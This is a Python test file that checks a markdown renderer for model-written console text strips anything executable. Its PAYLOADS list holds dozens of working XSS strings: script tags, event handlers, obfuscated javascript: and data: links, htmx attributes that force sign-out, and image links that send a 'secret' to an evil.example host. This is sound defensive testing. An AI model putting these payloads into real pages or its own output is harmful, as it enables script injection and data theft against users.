"""What a model wrote becomes HTML, and nothing in it can run."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from officium.web.console.markdown import GrowingMarkdown, Mark, render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='x' onclick=alert(1)>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div data-events=/console/sign-out data-hx-post=/console/sign-out data-hx-trigger=load>x</div>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<button class=figure data-again=/console/advisors/messages/1/regenerate>x</button>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    '[x](http://a.example "onmouseover=alert(1)")',
    '[x](http://a.example/"onmouseover=alert(1)//)',
    "[x](<javascript:alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?stolen=secret)",
    "![x][y]\n\n[y]: https://evil.example/?stolen=secret",
    "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    '```js"onload=alert(1)\nx\n```',
    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
    "# <svg/onload=alert(1)>",
    "> <iframe src=//evil.example>",
    "1. <script>alert(1)</script>",
    "**<b onmouseover=alert(1)>x</b>**",
    "\ue0000\ue000<script>alert(1)</script>\ue001",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<img src=x\x00 onerror=alert(1)>",
    "[x](\x01javascript:alert(1))",
]
TAGS = {
    *("p", "br", "strong", "em", "s", "ul", "ol", "li", "blockquote", "code", "pre", "h2"),
    *("hr", "table", "thead", "tbody", "tr", "th", "td", "a", "button", "span", "div"),
}
ATTRIBUTES = {"href", "target", "title", "rel", "start", "type", "class", "data-note", "tabindex"}
MARK = {"start": 0, "end": 2, "status": "unmatched"}


class _Reader(HTMLParser):
    """Looks at HTML as a browser would, and notes what it should not hold."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.faults.append(name)
            if name == "href" and not (value or "").lower().startswith(("http://", "https://", "mailto:")):
                self.faults.append(f"href={value}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(decl)

    def handle_comment(self, data: str) -> None:
        self.faults.append(data)

    def handle_pi(self, data: str) -> None:
        self.faults.append(data)


def _faults(html: str) -> list[str]:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.faults


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_could_run_is_left(payload: str):
    html = render_markdown(f"Before {payload} after\n\n{payload}\n", [MARK], lambda mark: payload)

    assert _faults(html) == []
    assert "evil.example/?" not in html.replace("&lt;", "<") or "<img" not in html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_could_run_is_left_while_it_is_written(payload: str):
    text = GrowingMarkdown(lambda mark: payload)

    for letter in f"Hello {payload}\n\nagain {payload}":
        text.feed(letter)
        assert _faults("".join(text.blocks())) == []


@given(st.text(alphabet="<>/\"'=&#;:[]()!`*_~|\\-+1. \n\tabjsx\ue000\ue001", max_size=80))
def test_whatever_is_written_nothing_could_run(text: str):
    marks = [{"start": place, "end": place + 2, "status": "unmatched"} for place in range(0, len(text), 5)]

    assert _faults(render_markdown(text, marks, lambda mark: text)) == []


def test_figures_are_marked_where_they_stand():
    text = "You have **450 users** and `23` more.\n\n| a |\n|--:|\n| 7% |"
    marks = [_mark(text, "450", "matched"), _mark(text, "23", "unmatched"), _mark(text, "7%", "computed")]

    html = render_markdown(text, marks, lambda mark: str(mark["status"]))

    assert (
        '<strong><button type="button" class="figure figure-matched" data-note="matched" tabindex="-1">'
        in html
    )
    assert '<code>23</code><span class="unseen"> (unmatched)</span></button>' in html
    assert 'data-note="computed" tabindex="-1">7%</button>' in html


def test_figure_that_is_the_mark_of_a_list_or_in_a_link_leaves_them_as_they_are():
    text = "3. three\n\n[12 days](https://a.example/12)"
    marks = [{"start": 0, "end": 1, "status": "unmatched"}, _mark(text, "12", "matched")]

    html = render_markdown(text, marks)

    assert '<ol start="3">' in html
    assert 'href="https://a.example/12"' in html
    assert "<button" not in html


@pytest.mark.parametrize("step", [1, 3, 11, 400])
def test_growing_text_ends_as_the_whole_one(step: int):
    text = (
        "# Title\n\nRevenue was 450.\n\n1. one\n\n2. two 23\n   more\n\n```\ncode 5\n\nmore\n```\n\n"
        "| a | b |\n|--|--|\n| 1 | 2 |\n\nSetext\n---\n\n- x\n- y\n\nlast"
    )
    marks = [_mark(text, "450", "matched"), _mark(text, "23", "unmatched")]
    growing = GrowingMarkdown()

    for start in range(0, len(text), step):
        growing.feed(text[start : start + step])
        growing.blocks()
    growing.feed("", marks)

    assert _flat("".join(growing.blocks())) == _flat(render_markdown(text, marks))


def test_blocks_that_are_complete_do_not_change():
    growing = GrowingMarkdown()
    growing.feed("One.\n\nTwo.\n\nThr")
    before = growing.blocks()
    growing.feed("ee\n\n1")

    assert growing.blocks()[0] == before[0]


def _mark(text: str, figure: str, status: str) -> Mark:
    start = text.index(figure)
    return {"start": start, "end": start + len(figure), "status": status}


def _flat(html: str) -> str:
    return html.replace("\n", "")
